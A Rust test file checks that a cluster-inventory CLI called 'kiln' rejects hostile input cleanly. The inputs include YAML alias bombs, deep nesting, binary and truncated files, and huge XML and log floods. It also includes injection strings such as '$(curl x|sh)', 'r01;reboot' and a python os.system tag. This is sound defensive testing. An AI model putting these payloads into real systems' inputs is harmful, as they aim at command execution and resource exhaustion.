//! Truncated, binary and hostile inventories: exit 2 with a clear message,
//! never a panic, never a hang, never unbounded memory.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly

mod common;

use std::io::Write;
use std::time::{Duration, Instant};

use common::{kiln, run};

/// Checks `bytes` as an inventory file; returns (exit code, stderr).
fn check_bytes(bytes: &[u8]) -> (i32, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.yaml");
    std::fs::File::create(&path)
        .unwrap()
        .write_all(bytes)
        .unwrap();
    let start = Instant::now();
    let (code, _, err) = run(kiln()
        .timeout(Duration::from_secs(30))
        .arg("inventory")
        .arg("check")
        .arg("-i")
        .arg(&path));
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "took {:?}",
        start.elapsed()
    );
    assert!(!err.contains("panicked"), "kiln panicked:\n{err}");
    (code, err)
}

fn assert_rejected(bytes: &[u8], expected: &str) {
    let (code, err) = check_bytes(bytes);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains(expected), "expected `{expected}` in:\n{err}");
}

#[test]
fn billion_laughs() {
    let mut doc = String::from(
        "a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    for i in 1..10 {
        let prev = format!("*a{}", i - 1);
        doc.push_str(&format!("a{i}: &a{i} [{}]\n", vec![prev; 9].join(",")));
    }
    doc.push_str("site: x\nracks: []\n");
    let (code, err) = check_bytes(doc.as_bytes());
    assert_eq!(code, 2, "{err}");
}

#[test]
fn deep_nesting() {
    let deep = format!("site: x\nracks: {}{}\n", "[".repeat(5000), "]".repeat(5000));
    let (code, _) = check_bytes(deep.as_bytes());
    assert_eq!(code, 2);
    let mut block = String::from("site: x\nracks:\n");
    for i in 0..200 {
        block.push_str(&format!("{}- \n", "  ".repeat(i + 1)));
    }
    let (code, _) = check_bytes(block.as_bytes());
    assert_eq!(code, 2);
}

#[test]
fn binary_and_non_utf8() {
    assert_rejected(b"site: x\n\x00\x01\x02\x03racks: []\n", "NUL bytes");
    assert_rejected(b"site: par1\nracks: \xff\xfe\n", "not UTF-8 text");
    let (code, err) = check_bytes(b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00");
    assert_eq!(code, 2, "{err}");
}

#[test]
fn truncated_files() {
    let text = std::fs::read(common::root().join("inventories/example-site.yaml")).unwrap();
    for cut in [1, 17, text.len() / 3, text.len() / 2, text.len() - 5] {
        let (code, err) = check_bytes(&text[..cut]);
        assert_eq!(code, 2, "cut at {cut}:\n{err}");
        assert!(
            err.contains("hostile.yaml:"),
            "cut at {cut}: no position:\n{err}"
        );
    }
}

#[test]
fn unterminated_quotes_and_flow_collections() {
    assert_rejected(b"site: \"par1\nracks: []\n", "hostile.yaml:");
    assert_rejected(
        b"site: par1\nracks: [{name: r01, nodes: [\n",
        "hostile.yaml:",
    );
}

#[test]
fn tags_do_not_construct_anything() {
    let (code, err) =
        check_bytes(b"site: !!python/object/apply:os.system [\"reboot\"]\nracks: []\n");
    assert_eq!(code, 2, "{err}");
}

#[test]
fn multiple_documents() {
    let (code, err) = check_bytes(b"site: a\nracks: []\n---\nsite: b\nracks: []\n");
    assert_eq!(code, 2, "{err}");
}

#[test]
fn oversized_files_are_refused_before_reading() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.yaml");
    // Sparse: costs no disk, but reports 100 MiB.
    std::fs::File::create(&path)
        .unwrap()
        .set_len(100 << 20)
        .unwrap();
    let (code, _, err) = run(kiln().arg("inventory").arg("check").arg("-i").arg(&path));
    assert_eq!(code, 2);
    assert!(err.contains("the limit is 67108864 bytes"), "{err}");
}

#[test]
fn very_long_lines_and_values() {
    let long = format!("site: {}\nracks: []\n", "a".repeat(1 << 20));
    let (code, err) = check_bytes(long.as_bytes());
    assert_eq!(code, 2, "{err}");
    assert!(
        err.len() < 10_000,
        "the snippet is bounded, got {} bytes",
        err.len()
    );
}

#[test]
fn hostile_values_never_reach_a_node() {
    for value in [
        "\"r01;reboot\"",
        "\"$(curl x|sh)\"",
        "\"`id`\"",
        "\"a\\nb\"",
        "\"../../etc\"",
    ] {
        let doc = format!(
            "site: x\ndefaults: {{hardware: hgx-h100-80gb-8x, image: ubuntu-24.04, \
             bmc: {{username: a, password: {{env: X}}}}, ssh: {{user: u}}}}\n\
             racks:\n  - name: r01\n    nodes:\n      - {{name: {value}, bmc: 10.0.0.1, ssh: 10.0.1.1}}\n"
        );
        let (code, err) = check_bytes(doc.as_bytes());
        assert_eq!(code, 2, "{value}: {err}");
        assert!(err.contains("is not a valid host name"), "{value}: {err}");
    }
}

/// Peak memory of kiln reading hostile inputs: every case runs as its own
/// process and the largest resident set any of them reached is read from
/// the kernel (`getrusage(RUSAGE_CHILDREN)`), then held to 256 MiB. Each
/// input is a few MiB built to multiply work or memory: deep and wide
/// `nvidia-smi -q -x` XML, endless kernel log and nccl-tests lines, a
/// YAML alias bomb, a record with a huge nested body.
#[test]
fn peak_memory_under_hostile_inputs_stays_under_256_mib() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: Vec<u8>| {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    };
    let deep_xml = {
        let mut s = String::from("<?xml version=\"1.0\" ?>\n<nvidia_smi_log>\n");
        s.push_str(&"<gpu>".repeat(200_000));
        s.push_str(&"</gpu>".repeat(200_000));
        s.push_str("</nvidia_smi_log>\n");
        s.into_bytes()
    };
    let wide_xml = {
        let mut s = String::from("<?xml version=\"1.0\" ?>\n<nvidia_smi_log>\n");
        for i in 0..2_000 {
            s.push_str(&format!("<gpu id=\"{i}\"><a><b><c><d><e><f>"));
            for j in 0..40 {
                s.push_str(&format!("<leaf{j}>{j}</leaf{j}>"));
            }
            s.push_str("</f></e></d></c></b></a></gpu>\n");
        }
        s.push_str("</nvidia_smi_log>\n");
        s.into_bytes()
    };
    let xid_flood: Vec<u8> = (0..150_000)
        .flat_map(|i| {
            format!(
                "[{i}.000000] NVRM: Xid (PCI:0000:{:02x}:00): {}, pid={i}, name=x, {}\n",
                i % 256,
                i % 200,
                "m".repeat(40)
            )
            .into_bytes()
        })
        .collect();
    let nccl_flood: Vec<u8> = (0..150_000)
        .flat_map(|i| {
            format!(
                "{:>12} {:>12} float sum -1 {:>8} {:>7} {:>7} 0 {:>8} {:>7} {:>7} 0\n",
                i * 8,
                i * 2,
                1.5,
                2.5,
                3.5,
                1.5,
                2.5,
                3.5
            )
            .into_bytes()
        })
        .collect();
    let mut laughs = String::from(
        "a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    for i in 1..12 {
        laughs.push_str(&format!(
            "a{i}: &a{i} [{}]\n",
            vec![format!("*a{}", i - 1); 9].join(",")
        ));
    }
    laughs.push_str("site: x\nracks: []\n");
    let record = format!(
        "{{\"record\":{}1{},\"signature\":{{\"algorithm\":\"ed25519\",\"key_id\":\"k\",\"public_key\":\"AA\",\"value\":\"AA\"}}}}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let cases: Vec<Vec<std::ffi::OsString>> = vec![
        vec![
            "judge".into(),
            "nvidia-smi".into(),
            write("deep.xml", deep_xml).into(),
        ],
        vec![
            "judge".into(),
            "nvidia-smi".into(),
            write("wide.xml", wide_xml).into(),
        ],
        vec![
            "judge".into(),
            "dmesg".into(),
            write("xid.log", xid_flood).into(),
        ],
        vec![
            "judge".into(),
            "nccl".into(),
            write("nccl.log", nccl_flood).into(),
        ],
        vec![
            "inventory".into(),
            "check".into(),
            "-i".into(),
            write("laughs.yaml", laughs.into_bytes()).into(),
        ],
        vec![
            "verify".into(),
            "--integrity-only".into(),
            write("record.json", record.into_bytes()).into(),
        ],
    ];
    for args in &cases {
        let (code, _, err) = run(kiln().timeout(Duration::from_secs(120)).args(args));
        assert!(!err.contains("panicked"), "{args:?} panicked:\n{err}");
        assert!((0..=4).contains(&code), "{args:?}: exit {code}\n{err}");
    }
    let usage =
        nix::sys::resource::getrusage(nix::sys::resource::UsageWho::RUSAGE_CHILDREN).unwrap();
    // ru_maxrss is in KiB on Linux.
    let peak_mib = usage.max_rss() / 1024;
    eprintln!(
        "peak resident memory of kiln over {} hostile inputs: {peak_mib} MiB",
        cases.len()
    );
    assert!(peak_mib < 256, "kiln reached {peak_mib} MiB");
}
